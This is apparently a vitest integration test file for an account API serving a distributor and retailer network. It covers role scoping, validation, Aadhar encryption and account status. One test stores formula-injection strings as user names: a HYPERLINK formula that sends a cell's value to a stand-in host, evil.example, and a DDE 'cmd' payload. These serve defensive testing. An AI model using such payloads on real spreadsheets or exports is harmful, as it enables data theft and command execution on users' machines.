import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoAadharNumber } from '../../src/server/demo/network';
import { verhoeffDigit } from '../../src/shared/identity';
import {
  ADMIN,
  call,
  DEMO_PASSWORD,
  INITIAL_PASSWORD,
  login,
  makeTestContext,
  type TestContext,
} from './helpers';

// The demo network, written out independently of the seed code: who sits under whom, by mobile number.
const CUSTOMERS_PER_RETAILER = [3, 3, 3, 3, 2, 2, 2, 2];
const md = (i: number) => `91${String(i).padStart(8, '0')}`;
const dist = (i: number) => `92${String(i).padStart(8, '0')}`;
const ret = (i: number) => `93${String(i).padStart(8, '0')}`;
const cust = (i: number) => `94${String(i).padStart(8, '0')}`;
const TYPE = { CUSTOMER: 1, MASTER_DISTRIBUTOR: 2, DISTRIBUTOR: 3, RETAILER: 4, EMPLOYEE: 5 } as const;

interface Node {
  mobile: string;
  type: number;
  children: Node[];
}
function demoTree(): Node[] {
  let c = 0;
  return [1, 2].map((m) => ({
    mobile: md(m),
    type: TYPE.MASTER_DISTRIBUTOR,
    children: [m * 2 - 1, m * 2].map((d) => ({
      mobile: dist(d),
      type: TYPE.DISTRIBUTOR,
      children: [d * 2 - 1, d * 2].map((r) => ({
        mobile: ret(r),
        type: TYPE.RETAILER,
        children: Array.from({ length: CUSTOMERS_PER_RETAILER[r - 1] }, () => ({
          mobile: cust(++c),
          type: TYPE.CUSTOMER,
          children: [],
        })),
      })),
    })),
  }));
}
const flatten = (nodes: Node[]): Node[] => nodes.flatMap((n) => [n, ...flatten(n.children)]);
const ALL = flatten(demoTree());
const find = (mobile: string) => ALL.find((n) => n.mobile === mobile)!;
const EMPLOYEES = ['9000000001', '9000000002'];

let ctx: TestContext;
const ids = new Map<string, string>();
const tokens: Record<string, string> = {};
let place: { districtId: string; tehsilId: string };
let otherTehsilId: string;

beforeAll(async () => {
  ctx = await makeTestContext();
  tokens.admin = (await login(ctx.app, ADMIN.userName, ADMIN.password)).token;
  tokens.employee = (await login(ctx.app, '9000000001', DEMO_PASSWORD)).token;
  for (const [name, mobile] of [
    ['md1', md(1)],
    ['md2', md(2)],
    ['d1', dist(1)],
    ['d3', dist(3)],
    ['r1', ret(1)],
    ['r5', ret(5)],
  ]) {
    tokens[name] = (await login(ctx.app, mobile, DEMO_PASSWORD)).token;
  }
  for (const type of Object.values(TYPE)) {
    const res = await call(ctx.app, 'GET', 'account/fetch', {
      token: tokens.admin,
      query: { type: String(type), limit: '100' },
    });
    for (const u of res.body.result.users) ids.set(u.mobile.number, u._id);
  }
  const tehsils = (
    await call(ctx.app, 'GET', 'tehsil/fetch', { token: tokens.admin, query: { limit: '100' } })
  ).body.result.tehsil;
  place = { districtId: tehsils[0].districtId._id, tehsilId: tehsils[0]._id };
  otherTehsilId = tehsils.find(
    (t: { districtId: { _id: string } }) => t.districtId._id !== place.districtId,
  )._id;
});
afterAll(async () => {
  await ctx?.close();
});

const id = (mobile: string) => {
  const value = ids.get(mobile);
  if (!value) throw new Error(`no id for ${mobile}`);
  return value;
};
const list = (token: string, query: Record<string, string>) =>
  call(ctx.app, 'GET', 'account/fetch', { token, query: { limit: '100', ...query } });
const mobilesOf = (res: { body: { result: { users: { mobile: { number: string } }[] } } }) =>
  res.body.result.users.map((u) => u.mobile.number).sort();
const create = (token: string, body: Record<string, unknown>) =>
  call(ctx.app, 'POST', 'account/create', { token, body });
const update = (token: string, userId: string, body: Record<string, unknown>) =>
  call(ctx.app, 'POST', `account/update/${userId}`, { token, body });

let counter = 0;
/** A fresh, valid user body of the given type (unique mobile and user name each call). */
function person(type: number, extra: Record<string, unknown> = {}) {
  counter++;
  const mobile = `8${String(100000000 + counter * 7919).slice(-9)}`;
  return {
    name: `new person ${counter}`,
    email: `p${counter}@example.in`,
    mobile,
    userName: `user${mobile}`,
    type,
    ...place,
    ...extra,
  };
}
function aadhar(seed: number) {
  const base = `7${String(seed).padStart(10, '0')}`;
  return `${base}${verhoeffDigit(base)}`;
}

describe('scoping matrix: who sees which users', () => {
  const networkOf = (mobile: string) => flatten([find(mobile)]).map((n) => n);
  const expected: Record<string, (type: number) => string[] | 'forbidden'> = {
    admin: (type) =>
      type === TYPE.EMPLOYEE ? EMPLOYEES : ALL.filter((n) => n.type === type).map((n) => n.mobile),
    employee: (type) =>
      type === TYPE.EMPLOYEE ? 'forbidden' : ALL.filter((n) => n.type === type).map((n) => n.mobile),
  };
  for (const [name, mobile] of [
    ['md1', md(1)],
    ['md2', md(2)],
    ['d1', dist(1)],
    ['d3', dist(3)],
    ['r1', ret(1)],
    ['r5', ret(5)],
  ]) {
    expected[name] = (type) =>
      type === TYPE.EMPLOYEE
        ? 'forbidden'
        : networkOf(mobile)
            .filter((n) => n.type === type)
            .map((n) => n.mobile);
  }

  for (const role of ['admin', 'employee', 'md1', 'md2', 'd1', 'd3', 'r1', 'r5']) {
    it(`${role}: every list returns exactly its network`, async () => {
      for (const type of Object.values(TYPE)) {
        const res = await list(tokens[role], { type: String(type) });
        const want = expected[role](type);
        if (want === 'forbidden') {
          expect(res.status, `${role} type ${type}`).toBe(403);
          expect(res.body.message).toBe('You do not have permission to do this');
        } else {
          expect(res.status, `${role} type ${type}`).toBe(200);
          expect(mobilesOf(res), `${role} type ${type}`).toEqual([...want].sort());
          expect(res.body.result.totalCounts).toBe(want.length);
        }
      }
    });
  }

  it('forged parent filters outside the network return nothing', async () => {
    const forged: [string, Record<string, string>][] = [
      ['md1', { type: '4', masterDistributorId: id(md(2)) }],
      ['md1', { type: '3', distributorMasterDistributorRef: id(md(2)) }],
      ['md1', { type: '2', _id: id(md(2)) }],
      ['d1', { type: '4', distributorId: id(dist(3)) }],
      ['d1', { type: '1', distributorId: id(dist(2)) }],
      ['r1', { type: '1', retailerId: id(ret(5)) }],
      ['r1', { type: '1', _id: id(cust(13)) }],
      ['r5', { type: '4', _id: id(ret(1)) }],
    ];
    for (const [role, query] of forged) {
      const res = await list(tokens[role], query);
      expect(res.status, `${role} ${JSON.stringify(query)}`).toBe(200);
      expect(res.body.result.users, `${role} ${JSON.stringify(query)}`).toEqual([]);
    }
  });

  // Every role x every demo user: one-record fetch and update. Updates send an empty body, so nothing changes:
  // 404 outside the network, 403 inside it without the edit right, 400 (validation) when allowed.
  const EDIT: Record<number, string[]> = {
    [TYPE.MASTER_DISTRIBUTOR]: ['admin', 'employee'],
    [TYPE.DISTRIBUTOR]: ['admin', 'employee'],
    [TYPE.RETAILER]: ['admin', 'employee'],
    [TYPE.CUSTOMER]: ['admin', 'employee', 'r1', 'r5'],
    [TYPE.EMPLOYEE]: ['admin'],
  };
  const ROLE_MOBILE: Record<string, string> = {
    admin: ADMIN.userName,
    employee: '9000000001',
    md1: md(1),
    md2: md(2),
    d1: dist(1),
    d3: dist(3),
    r1: ret(1),
    r5: ret(5),
  };
  const everyone = () => [
    ...ALL,
    ...EMPLOYEES.map((mobile) => ({ mobile, type: TYPE.EMPLOYEE as number, children: [] as Node[] })),
  ];
  const inScope = (role: string, mobile: string) =>
    role === 'admin' ||
    role === 'employee' ||
    flatten([find(ROLE_MOBILE[role])]).some((n) => n.mobile === mobile);

  for (const role of ['admin', 'employee', 'md1', 'md2', 'd1', 'd3', 'r1', 'r5']) {
    it(`${role}: every single-record fetch and update answers by network and role`, async () => {
      for (const user of everyone()) {
        const label = `${role} -> ${user.mobile}`;
        const self = ROLE_MOBILE[role] === user.mobile;
        const readable =
          self || (inScope(role, user.mobile) && (user.type !== TYPE.EMPLOYEE || role === 'admin'));
        const one = await list(tokens[role], { _id: id(user.mobile) });
        expect(one.status, label).toBe(readable ? 200 : 404);
        if (readable) expect(mobilesOf(one), label).toEqual([user.mobile]);
        else expect(one.body.message, label).toBe('User not found');

        const res = await update(tokens[role], id(user.mobile), {});
        const expected = !inScope(role, user.mobile) ? 404 : EDIT[user.type].includes(role) ? 400 : 403;
        expect(res.status, label).toBe(expected);
        expect(res.body.message, label).toBe(
          { 404: 'User not found', 403: 'You do not have permission to do this', 400: 'Invalid data!' }[
            expected
          ],
        );
      }
    });
  }

  it('filters inside the network narrow the list', async () => {
    expect(mobilesOf(await list(tokens.md1, { type: '4', distributorId: id(dist(2)) }))).toEqual([
      ret(3),
      ret(4),
    ]);
    expect(
      mobilesOf(await list(tokens.admin, { type: '3', distributorMasterDistributorRef: id(md(2)) })),
    ).toEqual([dist(3), dist(4)]);
    expect(mobilesOf(await list(tokens.admin, { type: '1', retailerId: id(ret(5)) }))).toEqual([
      cust(13),
      cust(14),
    ]);
    expect(mobilesOf(await list(tokens.md1, { type: '2' }))).toEqual([md(1)]);
  });

  it('single-record updates outside the network answer 404', async () => {
    const cases: [string, string][] = [
      ['r1', cust(13)],
      ['md1', dist(3)],
      ['d1', ret(5)],
      ['r5', cust(1)],
    ];
    for (const [role, mobile] of cases) {
      const res = await update(tokens[role], id(mobile), { name: 'Hijacked' });
      expect(res.status, `${role} -> ${mobile}`).toBe(404);
      expect(res.body.message).toBe('User not found');
    }
  });

  it('tier users may not edit other tier users in their network (403)', async () => {
    const res = await update(tokens.md1, id(dist(1)), { name: 'Renamed' });
    expect(res.status).toBe(403);
    expect(res.body.message).toBe('You do not have permission to do this');
  });

  it('lists show looked-up names and parents in the wire shape', async () => {
    const distributors = (await list(tokens.admin, { type: '3', distributorMasterDistributorRef: id(md(1)) }))
      .body.result.users;
    expect(distributors[0].master_distributor).toEqual([{ _id: id(md(1)), name: 'Suresh Traders' }]);
    expect(distributors[0].district[0].name).toEqual(expect.any(String));
    const retailers = (await list(tokens.admin, { type: '4', distributorId: id(dist(1)) })).body.result.users;
    expect(retailers[0].distributor).toEqual([{ _id: id(dist(1)), name: 'Jaipur Digital Seva' }]);
    expect(retailers[0].retailer).toEqual({ distributorId: id(dist(1)), masterDistributorId: id(md(1)) });
    const customers = (await list(tokens.admin, { type: '1', retailerId: id(ret(1)) })).body.result.users;
    expect(customers[0].retailer).toEqual([{ _id: id(ret(1)), name: 'Ganesh Mobile Store' }]);
    const masters = (await list(tokens.admin, { type: '2' })).body.result.users;
    expect(masters[0].distributor).toEqual({
      isMaster: true,
      distributorCode: 'abcA12',
      masterDistributorCommission: '10.5',
    });
  });

  it('pages and searches lists on the server', async () => {
    const page1 = await call(ctx.app, 'GET', 'account/fetch', {
      token: tokens.admin,
      query: { type: '1', page: '1', limit: '10' },
    });
    const page2 = await call(ctx.app, 'GET', 'account/fetch', {
      token: tokens.admin,
      query: { type: '1', page: '2', limit: '10' },
    });
    expect(page1.body.result.totalCounts).toBe(20);
    expect(page1.body.result.users).toHaveLength(10);
    expect(page2.body.result.users).toHaveLength(10);
    expect(new Set([...mobilesOf(page1), ...mobilesOf(page2)]).size).toBe(20);
    expect(mobilesOf(await list(tokens.admin, { type: '4', searchText: 'kirana' }))).toEqual([ret(2)]);
    expect((await list(tokens.admin, {})).body.message).toBe('Query type or _id is required');
    const badType = await list(tokens.admin, { type: '0' });
    expect(badType.status).toBe(400);
    expect(badType.body.errors[0]).toEqual({ msg: 'Invalid user type', param: 'type' });
  });

  it('pages a list the same way from either end: every page past the middle is read from the far end', async () => {
    const all = await call(ctx.app, 'GET', 'account/fetch', {
      token: tokens.admin,
      query: { type: '1', page: '1', limit: '20' },
    });
    const idsOf = (res: { body: { result: { users: { _id: string }[] } } }) =>
      res.body.result.users.map((u) => u._id);
    const expected = idsOf(all);
    expect(expected).toHaveLength(20);
    for (const limit of [3, 7]) {
      const pages: string[] = [];
      for (let page = 1; page <= Math.ceil(20 / limit); page++) {
        const res = await list(tokens.admin, { type: '1', page: String(page), limit: String(limit) });
        expect(res.body.result.totalCounts).toBe(20);
        pages.push(...idsOf(res));
      }
      expect(pages, `limit ${limit}`).toEqual(expected);
    }
    const past = await list(tokens.admin, { type: '1', page: '8', limit: '3' });
    expect(past.status).toBe(200);
    expect(past.body.result).toMatchObject({ users: [], totalCounts: 20 });
  });
});

describe('account/create: who may create what', () => {
  it('admin creates a master distributor with the fixed defaults and the initial password', async () => {
    const body = person(TYPE.MASTER_DISTRIBUTOR);
    const res = await create(tokens.admin, body);
    expect(res.status).toBe(200);
    expect(res.body.message).toBe('MasterDistributor Created Successfully!');
    expect(res.body.result).toMatchObject({
      type: 2,
      status: 'ACTIVE',
      passwordUpdatedAt: null,
      distributor: { isMaster: true, distributorCode: 'abcA12', masterDistributorCommission: '10.5' },
      wallet: { balance: 0, clearingBalance: 0 },
    });
    const session = await login(ctx.app, body.mobile, INITIAL_PASSWORD);
    const gated = await call(ctx.app, 'GET', 'report/userCounts', { token: session.token });
    expect(gated.status).toBe(403);
    expect(gated.body.message).toBe('Password change required');
  });

  it('refuses every create a role may not make (403), checking the role before the body', async () => {
    // Written out from seed section 6, not read from the role table.
    const CREATE: Record<number, string[]> = {
      [TYPE.MASTER_DISTRIBUTOR]: ['admin', 'employee'],
      [TYPE.DISTRIBUTOR]: ['admin'],
      [TYPE.RETAILER]: ['admin'],
      [TYPE.CUSTOMER]: ['admin', 'employee', 'r1', 'r5'],
      [TYPE.EMPLOYEE]: ['admin'],
    };
    for (const role of ['admin', 'employee', 'md1', 'md2', 'd1', 'd3', 'r1', 'r5']) {
      for (const type of Object.values(TYPE)) {
        const res = await create(tokens[role], { type });
        const allowed = CREATE[type].includes(role);
        expect(res.status, `${role} creates ${type}`).toBe(allowed ? 400 : 403);
        expect(res.body.message).toBe(allowed ? 'Invalid data!' : 'You do not have permission to do this');
      }
    }
  });

  it('refuses a body that is not a JSON object', async () => {
    for (const payload of ['"x"', '5', '[1,2]']) {
      for (const path of ['account/create', `account/update/${id(md(1))}`]) {
        const res = await ctx.app.inject({
          method: 'POST',
          url: `/api/v1/${path}`,
          headers: {
            'content-type': 'application/json',
            'x-auth-token': `bearer ${tokens.admin}`,
            cookie: 'XSRF-TOKEN=t',
            'x-xsrf-token': 't',
          },
          payload,
        });
        expect(res.statusCode, `${path} ${payload}`).toBe(400);
        expect(res.json().message).toBe('Invalid data!');
      }
    }
  });

  it('follows the role matrix for every type', async () => {
    const cases: [string, number, number, string?][] = [
      ['employee', TYPE.MASTER_DISTRIBUTOR, 200, 'MasterDistributor Created Successfully!'],
      ['employee', TYPE.DISTRIBUTOR, 403],
      ['employee', TYPE.RETAILER, 403],
      ['employee', TYPE.EMPLOYEE, 403],
      ['md1', TYPE.MASTER_DISTRIBUTOR, 403],
      ['md1', TYPE.DISTRIBUTOR, 403],
      ['md1', TYPE.RETAILER, 403],
      ['md1', TYPE.CUSTOMER, 403],
      ['d1', TYPE.RETAILER, 403],
      ['d1', TYPE.CUSTOMER, 403],
      ['r1', TYPE.DISTRIBUTOR, 403],
      ['r1', TYPE.EMPLOYEE, 403],
    ];
    for (const [role, type, status, message] of cases) {
      const res = await create(tokens[role], person(type));
      expect(res.status, `${role} creates type ${type}`).toBe(status);
      expect(res.body.message).toBe(message ?? 'You do not have permission to do this');
    }
  });

  it('admin creates a distributor under a master distributor and a retailer under that distributor', async () => {
    const d = await create(
      tokens.admin,
      person(TYPE.DISTRIBUTOR, { distributor: { masterDistributorId: id(md(1)) } }),
    );
    expect(d.status).toBe(200);
    expect(d.body.message).toBe('Distributor Created Successfully!');
    expect(d.body.result.master_distributor[0]._id).toBe(id(md(1)));
    const r = await create(
      tokens.admin,
      person(TYPE.RETAILER, {
        distributor: { masterDistributorId: id(md(1)) },
        retailer: { distributorId: d.body.result._id },
      }),
    );
    expect(r.status).toBe(200);
    expect(r.body.message).toBe('Retailer Created Successfully!');
    // The new retailer is inside md1's network at once.
    expect(mobilesOf(await list(tokens.md1, { type: '4' }))).toContain(r.body.result.mobile.number);
    expect(mobilesOf(await list(tokens.md2, { type: '4' }))).not.toContain(r.body.result.mobile.number);
  });

  it("a retailer's new customer is always its own", async () => {
    const body = person(TYPE.CUSTOMER, {
      customer: { aadharId: aadhar(1), panId: 'abcde1234f', retailerId: id(ret(5)) },
    });
    const res = await create(tokens.r1, body);
    expect(res.status).toBe(200);
    expect(res.body.message).toBe('Customer Created Successfully!');
    expect(res.body.result.customer).toEqual({
      aadharId: `XXXXXXXX${aadhar(1).slice(-4)}`,
      panId: 'ABCDE1234F',
      retailerId: id(ret(1)),
    });
    expect(mobilesOf(await list(tokens.r1, { type: '1' }))).toContain(body.mobile);
    expect(mobilesOf(await list(tokens.r5, { type: '1' }))).not.toContain(body.mobile);
  });

  it('admin creates an employee with a chosen password that must still be changed', async () => {
    const body = person(TYPE.EMPLOYEE, { password: 'Chosen@123', confirmPassword: 'Chosen@123' });
    const res = await create(tokens.admin, body);
    expect(res.status).toBe(200);
    expect(res.body.message).toBe('Empolyee Created Successfully!');
    const session = await login(ctx.app, body.userName, 'Chosen@123');
    expect(session.user).toMatchObject({ type: 5, passwordUpdatedAt: null });
  });
});

describe('account/create: validation', () => {
  const expectError = (
    res: { status: number; body: { errors?: { msg: string; param: string }[]; message: string } },
    param: string,
    msg: string,
  ) => {
    expect(res.status, `${param}: ${JSON.stringify(res.body)}`).toBe(400);
    expect(res.body.errors ?? [{ msg: res.body.message, param }]).toContainEqual({ msg, param });
  };

  it('requires every shared field', async () => {
    const res = await create(tokens.admin, { type: TYPE.MASTER_DISTRIBUTOR });
    expect(res.status).toBe(400);
    expect(res.body.message).toBe('Invalid data!');
    expect(res.body.errors.map((e: { param: string }) => e.param).sort()).toEqual(
      ['districtId', 'email', 'mobile', 'name', 'tehsilId', 'userName'].sort(),
    );
    expect(new Set(res.body.errors.map((e: { msg: string }) => e.msg))).toEqual(
      new Set(['This field is required']),
    );
  });

  it('checks formats: email, mobile, user name length, type', async () => {
    expectError(await create(tokens.admin, person(2, { email: 'not-an-email' })), 'email', 'Invalid email');
    expectError(
      await create(tokens.admin, person(2, { mobile: '12345' })),
      'mobile',
      'Invalid mobile number',
    );
    expectError(
      await create(tokens.admin, person(2, { mobile: '1234567890' })),
      'mobile',
      'Invalid mobile number',
    );
    expectError(
      await create(tokens.admin, person(2, { userName: 'abc' })),
      'userName',
      'Minimum length not fulfilled',
    );
    // Type 0 (another admin) is valid since issue 43: approvals.test.ts creates one.
    expectError(await create(tokens.admin, person(9)), 'type', 'Invalid user type');
  });

  it('checks the location chain', async () => {
    expectError(
      await create(tokens.admin, person(2, { districtId: '00000000-0000-4000-8000-000000000000' })),
      'districtId',
      'Selected district does not exist',
    );
    expectError(
      await create(tokens.admin, person(2, { tehsilId: otherTehsilId })),
      'tehsilId',
      'Selected tehsil does not belong to the selected district',
    );
    expectError(
      await create(tokens.admin, person(2, { tehsilId: '00000000-0000-4000-8000-000000000000' })),
      'tehsilId',
      'Selected tehsil does not exist',
    );
  });

  it('checks parents: existence, type and the distributor belonging to the master distributor', async () => {
    expectError(await create(tokens.admin, person(3)), 'distributor', 'This field is required');
    expectError(
      await create(tokens.admin, person(3, { distributor: { masterDistributorId: id(dist(1)) } })),
      'distributor.masterDistributorId',
      'Selected master distributor does not exist',
    );
    expectError(
      await create(
        tokens.admin,
        person(4, {
          distributor: { masterDistributorId: id(md(1)) },
          retailer: { distributorId: id(dist(3)) },
        }),
      ),
      'retailer.distributorId',
      'Selected distributor does not belong to the selected master distributor',
    );
    expectError(
      await create(
        tokens.admin,
        person(4, {
          distributor: { masterDistributorId: id(md(1)) },
          retailer: { distributorId: id(md(2)) },
        }),
      ),
      'retailer.distributorId',
      'Selected distributor does not exist',
    );
    expectError(
      await create(
        tokens.admin,
        person(1, { customer: { aadharId: aadhar(2), panId: 'ABCDE1234F', retailerId: id(dist(1)) } }),
      ),
      'customer.retailerId',
      'Selected retailer does not exist',
    );
  });

  it('checks Aadhar and PAN for customers', async () => {
    const customer = (aadharId: string, panId = 'ABCDE1234F') => person(1, { customer: { aadharId, panId } });
    expectError(
      await create(tokens.admin, customer('12345678901')),
      'customer.aadharId',
      'Aadhar length should be 12 digits',
    );
    expectError(
      await create(tokens.admin, customer('1234567890123')),
      'customer.aadharId',
      'Aadhar length should be 12 digits',
    );
    const good = aadhar(3);
    const wrongCheck = `${good.slice(0, 11)}${(Number(good[11]) + 1) % 10}`;
    expectError(
      await create(tokens.admin, customer(wrongCheck)),
      'customer.aadharId',
      'Invalid Aadhar number',
    );
    const startsWithOne = `1${good.slice(1, 11)}`;
    expectError(
      await create(tokens.admin, customer(`${startsWithOne}${verhoeffDigit(startsWithOne)}`)),
      'customer.aadharId',
      'Invalid Aadhar number',
    );
    expectError(await create(tokens.admin, customer(good, 'ABCD1234FF')), 'customer.panId', 'Invalid value');
    expectError(await create(tokens.admin, customer('')), 'customer.aadharId', 'This field is required');
    expectError(await create(tokens.admin, person(1)), 'customer', 'This field is required');
  });

  it('checks employee passwords', async () => {
    expectError(
      await create(tokens.admin, person(5, { password: 'Chosen@123', confirmPassword: 'Chosen@124' })),
      'confirmPassword',
      'Password and confirm password should be same!',
    );
    expectError(
      await create(tokens.admin, person(5, { password: 'weak', confirmPassword: 'weak' })),
      'password',
      'Password must contain at least eight characters, at least one number and both lower and uppercase letters and special characters',
    );
    expectError(await create(tokens.admin, person(5)), 'password', 'This field is required');
  });

  it('refuses a mobile number or user name that is already taken (409)', async () => {
    const taken = await create(tokens.admin, person(2, { mobile: md(1) }));
    expect(taken.status).toBe(409);
    expect(taken.body.message).toBe('This mobile number is already registered');
    const name = await create(tokens.admin, person(2, { userName: ADMIN.userName }));
    expect(name.status).toBe(409);
    expect(name.body.message).toBe('This user name is already taken');
    const first = person(2);
    await create(tokens.admin, first);
    const upper = await create(tokens.admin, person(2, { userName: first.userName.toUpperCase() }));
    expect(upper.status).toBe(409);
    expect(upper.body.message).toBe('This user name is already taken');
  });

  it('ignores fields a caller may not set', async () => {
    const body = person(2, {
      wallet: { balance: 1_000_000, clearingBalance: 5 },
      status: 'INACTIVE',
      password: 'Mine@12345',
      passwordUpdatedAt: new Date().toISOString(),
      path: '/',
      balancePaise: 99,
    });
    const res = await create(tokens.admin, body);
    expect(res.status).toBe(200);
    expect(res.body.result).toMatchObject({
      status: 'ACTIVE',
      passwordUpdatedAt: null,
      wallet: { balance: 0, clearingBalance: 0 },
    });
    const refused = await call(ctx.app, 'POST', 'account/login', {
      body: { userName: body.userName, password: 'Mine@12345' },
    });
    expect(refused.status).toBe(401);
    expect((await login(ctx.app, body.userName, INITIAL_PASSWORD)).user._id).toBe(res.body.result._id);
  });
});

describe('text as typed (issue 41, item 4)', () => {
  it('stores and answers a name that starts like a spreadsheet formula exactly as typed', async () => {
    // Guarding against CSV formulas is the export's job (src/web/lists/columns.tsx, csvCell), not the server's.
    for (const name of [
      '=HYPERLINK("http://evil.example/?x="&B2,"Open")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-1+1',
      '+cmd',
    ]) {
      const res = await create(tokens.admin, person(2, { name }));
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.result.name).toBe(name);
      const fetched = await call(ctx.app, 'GET', 'account/fetch', {
        token: tokens.admin,
        query: { type: '2', _id: res.body.result._id },
      });
      expect(fetched.body.result.users.map((u: { name: string }) => u.name)).toEqual([name]);
    }
  });
});

describe('account/update', () => {
  it('updates a user and refuses a type change', async () => {
    const created = (await create(tokens.admin, person(2))).body.result;
    const body = person(2, { name: 'Renamed Master' });
    const res = await update(tokens.employee, created._id, body);
    expect(res.status).toBe(200);
    expect(res.body.message).toBe('MasterDistributor Updated Successfully!');
    expect(res.body.result).toMatchObject({ name: 'Renamed Master', mobile: { number: body.mobile } });
    const typeChange = await update(tokens.admin, created._id, { ...body, type: 3 });
    expect(typeChange.status).toBe(400);
    expect(typeChange.body.errors[0]).toEqual({ msg: 'User type cannot be changed', param: 'type' });
    const dup = await update(tokens.admin, created._id, { ...body, mobile: md(2) });
    expect(dup.status).toBe(409);
    expect(dup.body.message).toBe('This mobile number is already registered');
  });

  it('moves a distributor with its whole network to another master distributor', async () => {
    const d = (await create(tokens.admin, person(3, { distributor: { masterDistributorId: id(md(1)) } })))
      .body.result;
    const r = (
      await create(
        tokens.admin,
        person(4, { distributor: { masterDistributorId: id(md(1)) }, retailer: { distributorId: d._id } }),
      )
    ).body.result;
    const c = (
      await create(
        tokens.admin,
        person(1, { customer: { aadharId: aadhar(4), panId: 'ABCDE1234F', retailerId: r._id } }),
      )
    ).body.result;
    const moved = await update(tokens.admin, d._id, {
      ...person(3, { distributor: { masterDistributorId: id(md(2)) } }),
      mobile: d.mobile.number,
      userName: d.userName.id,
    });
    expect(moved.status).toBe(200);
    expect(mobilesOf(await list(tokens.md2, { type: '1' }))).toContain(c.mobile.number);
    expect(mobilesOf(await list(tokens.md1, { type: '1' }))).not.toContain(c.mobile.number);
    const retailer = (await list(tokens.admin, { _id: r._id })).body.result.users[0];
    expect(retailer.retailer.masterDistributorId).toBe(id(md(2)));
  });

  it('lets a retailer edit its own customer but keeps it its own', async () => {
    const c = (await create(tokens.r1, person(1, { customer: { aadharId: aadhar(5), panId: 'ABCDE1234F' } })))
      .body.result;
    const res = await update(tokens.r1, c._id, {
      ...person(1, { customer: { panId: 'PQRST6789Z', retailerId: id(ret(5)) } }),
      mobile: c.mobile.number,
      userName: c.userName.id,
    });
    expect(res.status).toBe(200);
    expect(res.body.message).toBe('Customer Updated Successfully!');
    expect(res.body.result.customer).toEqual({
      aadharId: c.customer.aadharId,
      panId: 'PQRST6789Z',
      retailerId: id(ret(1)),
    });
  });
});

describe('Aadhar is personal data', () => {
  it('is stored encrypted, returned masked, searchable by exact number, and replaced only when a new one is entered', async () => {
    const lines: string[] = [];
    const logged = await makeTestContext({
      demo: true,
      logger: { level: 'trace', stream: { write: (line: string) => lines.push(line) } },
    });
    try {
      const admin = (await login(logged.app, ADMIN.userName, ADMIN.password)).token;
      const number = aadhar(6);
      const tehsil = (await call(logged.app, 'GET', 'tehsil/fetch', { token: admin })).body.result.tehsil[0];
      const body = person(1, {
        customer: { aadharId: number, panId: 'ABCDE1234F' },
        districtId: tehsil.districtId._id,
        tehsilId: tehsil._id,
      });
      const created = await call(logged.app, 'POST', 'account/create', { token: admin, body });
      expect(created.status, JSON.stringify(created.body)).toBe(200);
      const customerId = created.body.result._id;
      expect(created.body.result.customer.aadharId).toBe(`XXXXXXXX${number.slice(-4)}`);

      const found = await call(logged.app, 'GET', 'account/fetch', {
        token: admin,
        query: { type: '1', searchText: number },
      });
      expect(found.body.result.users.map((u: { _id: string }) => u._id)).toEqual([customerId]);
      const partial = await call(logged.app, 'GET', 'account/fetch', {
        token: admin,
        query: { type: '1', searchText: number.slice(0, 8) },
      });
      expect(partial.body.result.users).toEqual([]);

      const stored = await logged.database.db.execute(
        sql`select aadhar_cipher, aadhar_hash from users where id = ${customerId}`,
      );
      const row = stored.rows[0] as { aadhar_cipher: string; aadhar_hash: string };
      expect(row.aadhar_cipher).toMatch(/^v1\./);
      expect(row.aadhar_cipher).not.toContain(number);
      expect(row.aadhar_hash).not.toContain(number);
      expect(logged.app.cipher.decrypt(row.aadhar_cipher)).toBe(number);

      // Update without a new number, or with the masked one, keeps the stored number.
      for (const aadharId of [undefined, '', `XXXXXXXX${number.slice(-4)}`]) {
        const kept = await call(logged.app, 'POST', `account/update/${customerId}`, {
          token: admin,
          body: { ...body, customer: { aadharId, panId: 'ABCDE1234F' } },
        });
        expect(kept.status, JSON.stringify(kept.body)).toBe(200);
        expect(kept.body.result.customer.aadharId).toBe(`XXXXXXXX${number.slice(-4)}`);
      }
      const replacement = aadhar(7);
      const replaced = await call(logged.app, 'POST', `account/update/${customerId}`, {
        token: admin,
        body: { ...body, customer: { aadharId: replacement, panId: 'ABCDE1234F' } },
      });
      expect(replaced.body.result.customer.aadharId).toBe(`XXXXXXXX${replacement.slice(-4)}`);

      const everything = await call(logged.app, 'GET', 'account/fetch', {
        token: admin,
        query: { type: '1', limit: '100' },
      });
      const payloads = JSON.stringify([created.body, found.body, replaced.body, everything.body]);
      for (const secret of [number, replacement, demoAadharNumber(1)]) {
        expect(payloads).not.toContain(secret);
        expect(lines.join('\n')).not.toContain(secret);
      }
      expect(lines.length).toBeGreaterThan(0);
    } finally {
      await logged.close();
    }
  });
});

describe('status', () => {
  it('lets ADMIN toggle status; an inactive user is locked out at once and can come back', async () => {
    const body = person(4, {
      distributor: { masterDistributorId: id(md(2)) },
      retailer: { distributorId: id(dist(3)) },
    });
    const r = (await create(tokens.admin, body)).body.result;
    const { token } = await login(ctx.app, body.userName, INITIAL_PASSWORD);

    const byEmployee = await update(tokens.employee, r._id, { status: 'INACTIVE' });
    expect(byEmployee.status).toBe(403);
    expect(byEmployee.body.message).toBe('You do not have permission to do this');
    const bad = await update(tokens.admin, r._id, { status: 'SUSPENDED' });
    expect(bad.status).toBe(400);
    expect(bad.body.errors[0]).toEqual({ msg: 'Status must be ACTIVE or INACTIVE', param: 'status' });

    const off = await update(tokens.admin, r._id, { status: 'INACTIVE' });
    expect(off.status).toBe(200);
    expect(off.body.message).toBe('User Status Changed Successfully');
    expect(off.body.result.status).toBe('INACTIVE');
    const locked = await call(ctx.app, 'GET', 'account/fetch', { token, query: { _id: r._id } });
    expect(locked.status).toBe(401);
    const again = await call(ctx.app, 'POST', 'account/login', {
      body: { userName: body.userName, password: INITIAL_PASSWORD },
    });
    expect(again.status).toBe(403);
    expect(again.body.message).toBe('Your account is inactive. Please contact your administrator.');

    const on = await update(tokens.admin, r._id, { status: 'ACTIVE' });
    expect(on.body.result.status).toBe('ACTIVE');
    expect((await login(ctx.app, body.userName, INITIAL_PASSWORD)).user._id).toBe(r._id);
  });

  it('never touches the administrator', async () => {
    const admins = await list(tokens.admin, {
      _id: (await login(ctx.app, ADMIN.userName, ADMIN.password)).user._id,
    });
    const res = await update(tokens.admin, admins.body.result.users[0]._id, { status: 'INACTIVE' });
    expect(res.status).toBe(404);
    expect(res.body.message).toBe('User not found');
  });
});
